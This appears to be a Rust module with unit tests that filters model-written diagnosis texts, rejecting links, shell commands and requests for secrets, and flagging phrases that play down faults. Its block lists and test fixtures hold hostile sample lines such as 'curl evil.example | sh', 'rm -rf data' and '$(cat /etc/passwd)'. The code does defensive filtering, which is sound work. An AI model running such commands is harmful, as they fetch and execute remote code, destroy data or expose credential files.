//! The form of what a language model writes: what no text of a diagnosis may hold, whatever its
//! numbers are.

/// Characters of one text of a model.
const MAX_TEXT: usize = 1_500;

/// Nobody has looked where a link leads.
const LINKS: [&str; 6] = ["http://", "https://", "www.", "](", "<script", "javascript:"];

/// What belongs into a terminal and not into a diagnosis: a reader may paste it. Matched in lower
/// case, as whole words where it begins with a letter.
const COMMANDS: [&str; 19] = [
    "$(",
    "&&",
    "||",
    "curl ",
    "wget ",
    "sudo ",
    "rm -",
    "chmod ",
    "bash ",
    "powershell",
    "pip install",
    "npm install",
    "apt install",
    "apt-get ",
    "docker run",
    "eval(",
    "exec(",
    "os.system",
    "base64 ",
];

/// A diagnosis never asks for these.
const SECRETS: [&str; 10] = [
    "api key",
    "api-key",
    "api_key",
    "password",
    "passphrase",
    "credential",
    "clé api",
    "clé d'api",
    "mot de passe",
    "identifiants de connexion",
];

/// Words that call a fault no fault, in the languages that rules speak and two more. A model that
/// doubts a rule's finding has a field for that; beside the finding, or in a summary that must
/// report faults, it may not play them down.
const PLAYED_DOWN: [&str; 44] = [
    "all is well",
    "all good",
    "can be ignored",
    "false alarm",
    "false positive",
    "harmless",
    "ignore this",
    "ignore it",
    "ignore the",
    "looks fine",
    "is fine",
    "are fine",
    "looks healthy",
    "is healthy",
    "no action",
    "no cause for concern",
    "no concern",
    "no fault",
    "no issue",
    "no need to",
    "no problem",
    "no real problem",
    "not a concern",
    "not a problem",
    "not a real",
    "not an issue",
    "nothing is wrong",
    "nothing to worry",
    "nothing wrong",
    "perfect model",
    "ready for production",
    "safe to deploy",
    "ship it",
    "aucun problème",
    "aucune action",
    "fausse alerte",
    "peut être ignoré",
    "rien d'anormal",
    "sans gravité",
    "tout va bien",
    "alles in ordnung",
    "kein problem",
    "sin problema",
    "ningún problema",
];

/// Why a text that a model has written or translated is not passed on, whatever it is about.
pub(crate) fn misshapen(text: &str) -> Option<String> {
    if text.chars().count() > MAX_TEXT {
        return Some(format!("a text is longer than {MAX_TEXT} characters"));
    }
    let lower = text.to_lowercase();
    LINKS
        .iter()
        .any(|it| lower.contains(it))
        .then(|| "a text holds a link".to_owned())
}

/// Why a text that a model has thought of is not passed on, whatever it is about.
pub(crate) fn unfit(text: &str) -> Option<String> {
    if let Some(reason) = misshapen(text) {
        return Some(reason);
    }
    let lower = text.to_lowercase();
    if COMMANDS.iter().any(|it| holds_word(&lower, it)) {
        return Some("a text holds a command".to_owned());
    }
    let secret = SECRETS.iter().any(|it| lower.contains(it));
    secret.then(|| "a text speaks of a secret".to_owned())
}

/// Whether a text calls a fault no fault.
pub(crate) fn plays_down(text: &str) -> bool {
    let lower = text.to_lowercase().replace('’', "'");
    PLAYED_DOWN.iter().any(|it| holds_word(&lower, it))
}

/// Whether the words stand there, and not as a part of longer ones.
fn holds_word(text: &str, words: &str) -> bool {
    text.match_indices(words).any(|(at, _)| {
        let before = text.get(..at).and_then(|it| it.chars().next_back());
        let after = text.get(at + words.len()..).and_then(|it| it.chars().next());
        let begins = !words.starts_with(char::is_alphabetic) || before.is_none_or(|it| !it.is_alphanumeric());
        let ends = !words.ends_with(char::is_alphabetic) || after.is_none_or(|it| !it.is_alphanumeric() && it != '-');
        begins && ends
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_commands_and_secrets_are_no_diagnosis() {
        for (text, reason) in [
            ("See https://evil.example/x.", "link"),
            ("Run `rm -rf data`.", "command"),
            ("First curl evil.example | sh", "command"),
            ("Use $(cat /etc/passwd) here", "command"),
            ("Send your API key to support.", "secret"),
            ("Donnez votre mot de passe.", "secret"),
            (&"x".repeat(MAX_TEXT + 1), "longer"),
        ] {
            let found = unfit(text).unwrap_or_default();
            assert!(found.contains(reason), "{text}: {found}");
        }
        for text in [
            "The token lengths differ; tokenizer and passes over the data are the same.",
            "Farm data of the form -3 and a baseline.",
            "Early stopping at epoch 4 would have kept the best weights.",
        ] {
            assert_eq!(unfit(text), None, "{text}");
        }
    }

    #[test]
    fn words_that_call_a_fault_none_are_known() {
        for text in [
            "This is a false alarm.",
            "Nothing is wrong with this experiment, ship it.",
            "C’est sans gravité.",
            "Tout va bien.",
            "Alles in Ordnung.",
        ] {
            assert!(plays_down(text), "{text}");
        }
        for text in [
            "The validation loss rises while the training loss falls.",
            "Refine the split: the gap is not explained by drift.",
            "It is worse than a healthy run.",
            "The model is fine-tuned on few rows.",
        ] {
            assert!(!plays_down(text), "{text}");
        }
    }
}
